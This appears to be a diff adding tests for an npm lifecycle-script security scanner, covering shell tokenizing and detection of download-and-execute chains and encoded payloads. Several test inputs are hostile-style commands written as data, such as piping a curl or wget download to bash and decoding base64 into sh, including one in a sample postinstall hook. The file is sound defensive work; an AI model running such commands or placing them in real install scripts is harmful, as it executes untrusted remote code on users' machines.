@@ -0,0 +1,46 @@
+const test = require('node:test');
+const assert = require('node:assert');
+const { tokenizeShell, analyzeShellScript, inspectLifecycleScripts } = require('../src/lib/lifecycle-scripts');
+const { createRuleSet } = require('../src/lib/rule-packs');
+
+test('tokenizeShell splits on operators and keeps quoting, substitutions and redirects apart', () => {
+  const commands = tokenizeShell('FOO=1 echo "a \\"b\\" $(id)" 2>&1 | tee out.log && curl -o /tmp/x \'https://e.x\'; node ./x > log');
+  assert.deepStrictEqual(commands.map((command) => command.argv), [
+    ['FOO=1', 'echo', 'a "b" $(id)'],
+    ['tee', 'out.log'],
+    ['curl', '-o', '/tmp/x', 'https://e.x'],
+    ['node', './x']
+  ]);
+  assert.deepStrictEqual(commands.map((command) => command.operator), ['|', '&&', ';', null]);
+  assert.deepStrictEqual(commands[0].substitutions, ['id']);
+  assert.deepStrictEqual(commands[0].redirects, []);
+  assert.deepStrictEqual(commands[3].redirects, [{ op: '>', target: 'log' }]);
+});
+
+test('tokenizeShell ignores comments and joins escaped newlines', () => {
+  const commands = tokenizeShell('echo a \\\n  b # trailing comment\nls');
+  assert.deepStrictEqual(commands.map((command) => command.argv), [['echo', 'a', 'b'], ['ls']]);
+});
+
+test('analyzeShellScript detects download-and-execute chains', () => {
+  const detectors = (script) => analyzeShellScript(script).detections.map((detection) => detection.detector);
+  assert.deepStrictEqual(detectors('curl -fsSL https://e.x/i.sh | sudo bash'), ['download-exec']);
+  assert.deepStrictEqual(detectors('wget -O /tmp/p https://e.x/p && sh /tmp/p'), ['download-exec']);
+  assert.deepStrictEqual(detectors('bash -c "curl https://e.x | sh"'), ['download-exec']);
+  assert.deepStrictEqual(detectors('echo aGk= | base64 -d | sh'), ['encoded-payload']);
+  assert.deepStrictEqual(detectors('echo "curl https://e.x | sh"'), []);
+  assert.deepStrictEqual(detectors('curl -o cache.json https://e.x/data.json'), []);
+});
+
+test('analyzeShellScript lists script files to follow', () => {
+  assert.deepStrictEqual(analyzeShellScript('node scripts/setup.js').references, [{ path: 'scripts/setup.js', type: 'js' }]);
+});
+
+test('inspectLifecycleScripts reports a download-exec segment once, not again as a keyword hit', async () => {
+  const rules = createRuleSet().lifecycleRules;
+  const hits = await inspectLifecycleScripts({ scripts: { postinstall: 'curl -s https://e.x/i.sh | bash && node -e "1"' } }, '/nonexistent', rules);
+  assert.deepStrictEqual(hits.map((hit) => `${hit.rule.id}: ${hit.segment}`), [
+    'lifecycle-download-exec: curl -s https://e.x/i.sh | bash',
+    'suspicious-postinstall: node -e "1"'
+  ]);
+});